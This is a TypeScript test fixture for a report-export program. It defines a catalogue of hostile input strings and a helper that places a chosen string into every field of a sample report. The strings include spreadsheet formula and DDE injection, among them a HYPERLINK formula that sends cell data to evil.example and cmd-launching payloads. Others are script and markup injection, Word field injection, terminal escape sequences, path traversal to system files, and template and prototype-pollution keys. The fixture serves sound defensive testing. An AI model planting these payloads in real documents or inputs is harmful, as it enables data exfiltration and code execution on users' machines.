import { withCell, type Report } from "../../src/report";
import { plainReport } from "./reports/consistent";

/** Texts that somebody might put into a report to make a program do something, by what they try. */
export const hostileTexts: Readonly<Record<string, string>> = {
  "a formula": "=1+1",
  "a formula that calls out": '=HYPERLINK("http://evil.example/?"&A1,"看这里")',
  "a command by DDE": "=cmd|'/c calc'!A0",
  "a formula by plus": "+cmd|'/c calc'!A0",
  "a formula by minus": "-2+3",
  "a formula by at": "@SUM(1,1)",
  "a formula after a tab": "\t=1+1",
  "a formula after a line end": "\r\n=1+1",
  "a formula in full width": "＝1+1",
  "an apostrophe": "'=1+1",
  "a script": "<script>alert(1)</script>",
  "a handler": '"><img src=x onerror=alert(1)>',
  "an end of everything": "</td></tr></table></body></html><svg onload=alert(1)>",
  "a comment": "--><!-- ]]> <![CDATA[x",
  "an entity": "&lt;b&gt; &amp;#60; &xxe; &#x3c;script&#x3e;",
  "a cell of a workbook": '</t></is></c><c r="A1" t="str"><f>1+1</f><v>2</v></c><c><is><t>',
  "a field of Word": '</w:t></w:r><w:fldSimple w:instr="DDEAUTO c:\\\\calc"/><w:r><w:t>',
  "an escape of a workbook": "_x003D_1+1",
  "a colour of the terminal": "\u001b[31m红\u001b[0m",
  "a title of the terminal": "\u001b]0;pwned\u0007\u001b]52;c;cHduZWQ=\u0007",
  "a command of the terminal in one sign": "\u009b2J\u0090",
  "what ends a string": "\u0000\u0008\u007f",
  "half a character": "\ud800",
  "a line turned round": "\u202etxt.exe\u2066",
  "a path": "../../../etc/passwd",
  "a path on Windows": "..\\..\\Windows\\win.ini",
  "a device": "CON",
  "a stream": "a.txt:stream",
  "a template": "${process.exit(1)} {{7*7}} <%= 7 %> %s %n",
  "a replacement": "$& $1 $` $'",
  "a key of every object": "__proto__",
  "a very long name": "年".repeat(40_000),
};

/** A harmless text with which the others are compared. */
export const plainText = "普通\t文字和数字\r\n第二段";

/**
 * A report that says this in the name of its agency, its title and all its sections, and these in the first cells of
 * 表三.
 */
export function saying(text: string, inCells: readonly string[] = [text]): Report {
  const { requests } = plainReport.tables;
  if (!requests) throw new Error("no 表三");
  const section = { text, parts: {} };
  const filled = inCells.reduce((table, each, index) => withCell(table, index, { text: each }), requests);
  return {
    ...plainReport,
    agency: text,
    title: text,
    narrative: { overall: section, problems: section, other: section },
    tables: { ...plainReport.tables, requests: filled },
  };
}
